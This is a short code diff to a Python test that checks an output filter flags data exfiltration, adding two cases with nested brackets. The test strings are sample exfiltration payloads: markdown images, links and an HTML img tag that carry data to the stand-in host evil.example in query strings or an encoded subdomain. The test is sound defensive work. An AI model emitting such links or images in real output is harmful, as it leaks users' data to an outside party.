@@ -17,6 +17,8 @@ from genai_filter import output
         ('<img src="https://evil.example/x.gif?u=1234">', "EXFIL_IMAGE"),
         ("[ref]: https://evil.example/c?data=abc", "EXFIL_LINK"),
         ("![x](https://aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRh.evil.example/a.png)", "EXFIL_IMAGE"),
+        ("![x [nested] y](https://evil.example/p.png?d=1)", "EXFIL_IMAGE"),
+        ("[a [b] c](https://evil.example/p?d=1)", "EXFIL_LINK"),
     ],
 )
 def test_exfiltration_flagged(text: str, kind: str) -> None:
